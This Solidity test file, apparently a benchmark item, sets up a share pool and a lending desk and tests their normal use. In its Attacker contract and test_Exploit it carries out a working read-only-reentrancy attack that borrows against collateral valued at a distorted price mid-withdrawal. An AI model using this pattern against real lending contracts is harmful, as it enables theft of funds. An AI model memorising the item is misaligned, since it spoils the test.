// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./EtherPool.sol";
import {ShareDesk} from "./context/ShareDesk.sol";
import {IERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/IERC20.sol";

// assay-canary-871a97e3-bfb5-4512-b935-c9ca0f70789a

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant OWNER = address(0x09E);

    Coin private token;
    EtherPool private pool;
    ShareDesk private desk;
    Attacker private mallory;

    function setUp() public {
        vm.deal(address(this), 1e15);
        pool = new EtherPool{value: 1e15}(OWNER);
        token = new Coin();
        desk = new ShareDesk(token, pool);
        token.transfer(address(desk), 500e18);
        token.transfer(BEN, 500e18);
        vm.deal(ANA, 20 ether);
        vm.deal(BEN, 20 ether);
        vm.deal(OWNER, 20 ether);
        vm.prank(ANA);
        pool.deposit{value: 10 ether}();
        mallory = new Attacker(pool, desk, token);
        vm.deal(address(mallory), 100 ether);
    }

    function test_Regular() public {
        require(pool.balanceOf(ANA) == 10 ether && pool.price() == 1e18, "deposited");
        vm.prank(OWNER);
        pool.earn{value: 1 ether}();
        require(pool.cutDue() == 0.1 ether && pool.price() > 1.08e18, "earned");
        vm.startPrank(ANA);
        pool.approve(address(desk), 6 ether);
        desk.pledge(6 ether);
        desk.borrow(4.8e18);
        token.approve(address(desk), type(uint256).max);
        desk.repay(0.8e18);
        desk.release(1 ether);
        require(desk.pledged(ANA) == 5 ether && desk.debtOf(ANA) == 4e18 && token.balanceOf(ANA) == 4e18, "borrowed");
        uint256 amount = pool.withdraw(5 ether);
        require(amount > 5.4 ether && ANA.balance == 10 ether + amount, "withdrawn");
        vm.stopPrank();
        vm.startPrank(BEN);
        uint256 shares = pool.deposit{value: 2 ether}();
        require(shares > 1.8 ether && shares < 1.9 ether, "fewer shares");
        pool.transfer(ANA, 1 ether);
        pool.approve(ANA, 0.5 ether);
        vm.stopPrank();
        vm.prank(ANA);
        pool.transferFrom(BEN, ANA, 0.5 ether);
        require(pool.balanceOf(ANA) == 1.5 ether, "moved");
        vm.startPrank(OWNER);
        pool.takeCut(payable(address(0xCA7)));
        require(address(0xCA7).balance == 0.1 ether, "cut");
        pool.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        pool.renounceOwnership();
    }

    function test_RefusesAccounts() public {
        vm.deal(address(this), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(EtherPool.TooLittle.selector, 1e15 - 1));
        new EtherPool{value: 1e15 - 1}(OWNER);
        vm.expectRevert(abi.encodeWithSelector(EtherPool.TooLittle.selector, 0));
        pool.deposit();
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(EtherPool.TooMuch.selector, 0));
        pool.withdraw(0);
        vm.expectRevert(abi.encodeWithSelector(EtherPool.TooMuch.selector, 10 ether + 1));
        pool.withdraw(10 ether + 1);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        pool.earn{value: 1}();
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        pool.takeCut(payable(ANA));
        vm.stopPrank();
        vm.prank(OWNER);
        vm.expectRevert(EtherPool.NoAccount.selector);
        pool.takeCut(payable(address(0)));
    }

    function test_RefusesWithinPayments() public {
        Nested nested = new Nested(pool);
        vm.deal(address(nested), 1 ether);
        vm.startPrank(OWNER);
        pool.earn{value: 1 ether}();
        pool.transferOwnership(address(nested));
        vm.stopPrank();
        nested.run();
        require(nested.refusals() == 3, "locked");
    }

    function test_RefusesDebts() public {
        vm.startPrank(ANA);
        pool.approve(address(desk), 4 ether);
        desk.pledge(4 ether);
        desk.borrow(3e18);
        vm.expectRevert(abi.encodeWithSelector(ShareDesk.Uncovered.selector, 3e18 + 1, 3e18));
        desk.borrow(1);
        vm.expectRevert(abi.encodeWithSelector(ShareDesk.Uncovered.selector, 3e18, 3e18 - 1));
        desk.release(1);
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(ShareDesk.Covered.selector, 3e18, 3.4e18));
        desk.seize(ANA);
    }

    // No debt is larger than what is pledged for it.
    function debtsAreCovered() public view returns (bool) {
        return desk.debtOf(address(mallory)) <= desk.valueOf(address(mallory)) && desk.debtOf(ANA) <= desk.valueOf(ANA);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        require(debtsAreCovered(), "at first");
        exploit();
        require(!debtsAreCovered() && token.balanceOf(address(mallory)) >= 40e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(pool);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

// The operator, who comes back while being paid.
contract Nested {
    EtherPool private pool;
    uint256 public refusals;
    bool private tried;

    constructor(EtherPool p) {
        pool = p;
    }

    function run() external {
        pool.deposit{value: 1 ether}();
        pool.withdraw(0.5 ether);
    }

    function attempt(uint256 amount, bytes memory data) private {
        (bool done, bytes memory reason) = address(pool).call{value: amount}(data);
        if (!done && bytes4(reason) == ReentrancyGuard.ReentrancyGuardReentrantCall.selector) refusals++;
    }

    receive() external payable {
        if (tried) return;
        tried = true;
        attempt(0, abi.encodeCall(pool.withdraw, (0.1 ether)));
        attempt(0.1 ether, abi.encodeCall(pool.deposit, ()));
        attempt(0, abi.encodeCall(pool.takeCut, (payable(address(0xCA7)))));
    }
}

contract Attacker {
    EtherPool private pool;
    ShareDesk private desk;
    Coin private token;
    address private host = msg.sender;

    constructor(EtherPool p, ShareDesk d, Coin t) {
        pool = p;
        desk = d;
        token = t;
    }

    function run() external {
        require(msg.sender == host, "host");
        uint256 shares = pool.deposit{value: 100 ether}();
        pool.approve(address(desk), shares / 10);
        desk.pledge(shares / 10);
        pool.withdraw(shares - shares / 10);
    }

    receive() external payable {
        desk.borrow(desk.valueOf(address(this)) * 7_400 / 10_000);
    }
}
